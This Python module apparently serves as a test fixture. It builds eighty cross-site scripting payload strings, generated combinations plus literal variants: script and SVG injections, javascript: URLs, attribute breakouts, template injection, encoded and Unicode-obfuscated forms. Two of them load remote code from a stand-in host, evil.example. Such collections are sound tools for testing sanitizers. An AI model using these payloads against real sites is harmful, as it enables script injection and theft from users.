# SPDX-License-Identifier: Apache-2.0
"""Eighty names that would be scripts if somebody took them for markup. They are names, and nothing here runs them."""

TAGS = (
    "script",
    "img src=x",
    "svg",
    "body",
    "iframe",
    "details open",
    "video",
    "input autofocus",
    "a href=#",
    "p style=x",
)
EVENTS = ("onerror", "onload", "onclick", "ontoggle", "onfocus")
BREAKS = ("", '"', "'", "</td>", "</title>", "</style>", "-->", "]]>")

PAYLOADS = tuple(
    [
        f"{out}<{tag} {event}=alert({number})>"
        for number, (tag, event, out) in enumerate(
            (tag, EVENTS[at % len(EVENTS)], BREAKS[(at + turn) % len(BREAKS)])
            for turn in range(5)
            for at, tag in enumerate(TAGS)
        )
    ]
    + [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</script><script>alert(1)</script>",
        "</svg><script>alert(1)</script>",
        "</desc><script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "</style><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        "` onmouseover=`alert(1)",
        'x" style="background:url(javascript:alert(1))',
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "{% raw %}<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<script\x0b>alert(1)</script\x0b>",
        "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
        "\N{RIGHT-TO-LEFT OVERRIDE}<script>alert(1)</script>",
    ]
)
